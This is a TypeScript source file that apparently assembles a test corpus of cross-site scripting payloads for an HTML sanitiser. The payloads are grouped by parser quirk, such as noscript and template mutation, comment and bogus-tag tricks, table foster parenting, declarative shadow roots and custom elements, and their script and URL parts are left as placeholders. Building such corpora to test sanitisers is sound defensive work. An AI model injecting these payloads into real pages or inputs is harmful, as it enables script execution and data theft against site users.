import { category } from './payload';
import {
  BLEACH,
  CKEDITOR,
  CLOSURE,
  DOMPURIFY_TEMPLATES,
  HTML5SEC,
  KINUGAWA,
  OWASP,
  own,
  PORTSWIGGER,
  SHADOW,
  WHATWG,
} from './sources';

/** What two parsers, or one with and without scripts, take differently. */
export const PARSING = category('parsing', [
  [
    KINUGAWA,
    {
      'noscript-attribute': '<noscript><p title="</noscript><img src=x: onerror={{CALL}}>"></noscript>',
      'noscript-comment': '<noscript><!--</noscript><img src=x: onerror={{CALL}}>--></noscript>',
      'noscript-style': '<noscript><style></noscript><img src=x: onerror={{CALL}}></style></noscript>',
      'noscript-title': '<noscript><title></noscript><img src=x: onerror={{CALL}}></title></noscript>',
      'noscript-in-math':
        '<math><noscript><p title="</noscript><img src=x: onerror={{CALL}}>"></noscript></math>',
      'noscript-in-svg-desc':
        '<svg><desc><noscript><p title="</noscript><img src=x: onerror={{CALL}}>"></noscript></desc></svg>',
    },
  ],
  [
    CLOSURE,
    {
      'template-content': '<template><img src=x: onerror={{CALL}}></template>',
      'template-in-template': '<template><template><script>{{CALL}}</script></template></template>',
      'template-end-in-attribute':
        '<template><p title="</template><img src=x: onerror={{CALL}}>"></template>',
      'template-in-table':
        '<table><template><tr><td><img src=x: onerror={{CALL}}></td></tr></template></table>',
      'template-in-select': '<select><template><img src=x: onerror={{CALL}}></template></select>',
      'title-text': '<title><img src=x: onerror={{CALL}}></title>',
      'textarea-text': '<textarea></textarea><img src=x: onerror={{CALL}}></textarea>',
      'textarea-attribute': '<textarea><img title="</textarea><img src=x: onerror={{CALL}}>"></textarea>',
      plaintext: '<plaintext><img src=x: onerror={{CALL}}>',
      xmp: '<xmp><p title="</xmp><img src=x: onerror={{CALL}}>"></xmp>',
      'style-text': '<style></style><img src=x: onerror={{CALL}}></style>',
      'iframe-attribute': '<iframe><p title="</iframe><img src=x: onerror={{CALL}}>"></iframe>',
      'noframes-attribute': '<noframes><p title="</noframes><img src=x: onerror={{CALL}}>"></noframes>',
    },
  ],
  [
    HTML5SEC,
    {
      'comment-dash-end': '<!-- --!><img src=x: onerror={{CALL}}> -->',
      'comment-short': '<!--><img src=x: onerror={{CALL}}>-->',
      'comment-shorter': '<!---><img src=x: onerror={{CALL}}>-->',
      'comment-nested': '<!-- <!-- --><img src=x: onerror={{CALL}}> -->',
      'comment-attribute': '<!-- <p title="--><img src=x: onerror={{CALL}}>"> -->',
      'comment-downlevel': '<!--[if gte IE 4]><script>{{CALL}}</script><![endif]-->',
      'comment-revealed': '<![if !IE]><img src=x: onerror={{CALL}}><![endif]>',
      'bogus-slash': '</ ><img src=x: onerror={{CALL}}>',
      'bogus-question': '<? foo="><script>{{CALL}}</script>">',
      'bogus-bang': '<! foo="><script>{{CALL}}</script>">',
      'bogus-end-tag': '</ foo="><script>{{CALL}}</script>">',
      'bogus-percent': '<% foo><img src=x: onerror={{CALL}}> %>',
      'double-attributes': '<a href=# href="javascript:{{CALL}}" onclick onclick={{CALL}}>a</a>',
      'end-tag-attributes': '</p onclick={{CALL}} style="background:url({{URL}})"><b>a</b>',
      'doctype-internal': `<!DOCTYPE x [<!ENTITY y "<img src=x: onerror={{CALL}}>">]><p>&y;</p>`,
      'nested-links': '<a href=#><a onclick={{CALL}} href="javascript:{{CALL}}">a</a></a>',
    },
  ],
  [
    PORTSWIGGER,
    {
      'foster-parented': '<table><img src=x: onerror={{CALL}}><tr><td>a</td></tr></table>',
      'foster-script': '<table><script>{{CALL}}</script><tbody>a</tbody></table>',
      'colgroup-script':
        '<table><colgroup><script>{{CALL}}</script><col onclick={{CALL}}></colgroup></table>',
      'select-strips': '<select><img src=x: onerror={{CALL}}><option>a</option></select>',
      'option-in-p': '<p><option><img src=x: onerror={{CALL}}></option></p>',
      'ruby-breaks': '<ruby>a<rt><img src=x: onerror={{CALL}}><rp><svg onload={{CALL}}></ruby>',
      'button-in-button': '<button><button onclick={{CALL}} autofocus onfocus={{CALL}}>a</button></button>',
      'formatting-adoption': '<b><p onclick={{CALL}}></b><img src=x: onerror={{CALL}}></p>',
      'heading-nesting': '<h1><h2 onclick={{CALL}}><img src=x: onerror={{CALL}}></h1>',
      'p-in-button-scope': '<p><button><p onclick={{CALL}}><img src=x: onerror={{CALL}}></button>',
      'keygen-void': '<keygen><img src=x: onerror={{CALL}}></keygen>',
      'nobr-nesting': '<nobr>a<nobr onclick={{CALL}}><img src=x: onerror={{CALL}}>',
    },
  ],
  [
    own(`${BLEACH}; ${OWASP}`),
    {
      'dashes-in-style-comment': '<style><!--\n</style><img src=x: onerror={{CALL}}>\n--></style>',
      'script-double-escaped': '<script><!--<script></script><img src=x: onerror={{CALL}}></script>',
      'equals-before-name': '<img ="x" src=x: onerror={{CALL}}>',
      'quote-in-name': `<img "=1 '=2 src=x: onerror={{CALL}}>`,
      'solidus-values': '<img src=x:/ onerror={{CALL}}/>',
      'unclosed-tag-at-end': '<img src=x: onerror={{CALL}} ',
      'unclosed-attribute': '<img src=x: onerror="{{CALL}}',
    },
  ],
  [
    own(`${DOMPURIFY_TEMPLATES}; ${CKEDITOR}`),
    {
      'template-braces': '<p>{{=<img src=x: onerror={{CALL}}>}}</p>',
      'template-percent': '<p><% <img src=x: onerror={{CALL}}> %></p>',
      'template-literal': '<p title="$\u007b<img src=x: onerror={{CALL}}>}">$\u007b`{{CALL}}`}</p>',
      'template-in-attribute': '<a title="<%=" onclick={{CALL}} id="%>">a</a>',
    },
  ],
]);

/** Elements with behaviour of their own, and trees beside the document's. */
export const CUSTOM_ELEMENTS = category('custom-elements', [
  [
    SHADOW,
    {
      'shadow-open': '<div><template shadowrootmode=open><img src=x: onerror={{CALL}}></template></div>',
      'shadow-closed': '<div><template shadowrootmode=closed><script>{{CALL}}</script></template></div>',
      'shadow-style':
        '<p><template shadowrootmode=open><style>:host{background:url({{URL}})}</style><slot></slot></template>a</p>',
      'shadow-nested':
        '<div><template shadowrootmode=open><div><template shadowrootmode=open><svg onload={{CALL}}></template></div></template></div>',
      'shadow-clonable':
        '<div><template shadowrootmode=open shadowrootclonable shadowrootserializable><img src=x: onerror={{CALL}}></template></div>',
      'shadow-focus':
        '<div><template shadowrootmode=open shadowrootdelegatesfocus><input autofocus onfocus={{CALL}}></template></div>',
      'shadow-old-name': '<div><template shadowroot=open><img src=x: onerror={{CALL}}></template></div>',
      'shadow-on-article':
        '<article><template shadowrootmode=open><slot onclick={{CALL}}></slot><iframe srcdoc="<script>{{CALL}}</script>"></iframe></template><p>a</p></article>',
      'shadow-adopted-styles':
        '<div><template shadowrootmode=open shadowrootadoptedstylesheets="{{URL}}">a</template></div>',
      'shadow-end-in-attribute':
        '<div><template shadowrootmode=open><p title="</template><img src=x: onerror={{CALL}}>"></template></div>',
    },
  ],
  [
    own(WHATWG),
    {
      'is-attribute': '<p is="x-run" onclick={{CALL}}>a</p>',
      'is-on-script': '<script is="x-run">{{CALL}}</script>',
      'custom-name': '<x-run onconnected={{CALL}} tabindex=0 autofocus onfocus={{CALL}}>a</x-run>',
      'custom-in-svg':
        '<svg><x-run onload={{CALL}}></x-run><foreignObject><x-run autofocus tabindex=0 onfocus={{CALL}}></x-run></foreignObject></svg>',
      'slot-and-part':
        '<p slot=title part=content exportparts=x>a</p><slot name=title onclick={{CALL}}></slot>',
      'name-like-ours':
        '<lectern-toast><template shadowrootmode=open><iframe srcdoc="<script>{{CALL}}</script>"></iframe></template></lectern-toast>',
      'element-element':
        '<element name=x-run><script>{{CALL}}</script></element><content select=p></content><shadow></shadow>',
      'registry-attribute':
        '<div><template shadowrootmode=open shadowrootcustomelementregistry><x-run onclick={{CALL}}></x-run></template></div>',
      focusgroup: '<p focusgroup inert interestfor=x tabindex=0 onfocus={{CALL}} autofocus>a</p>',
    },
  ],
]);
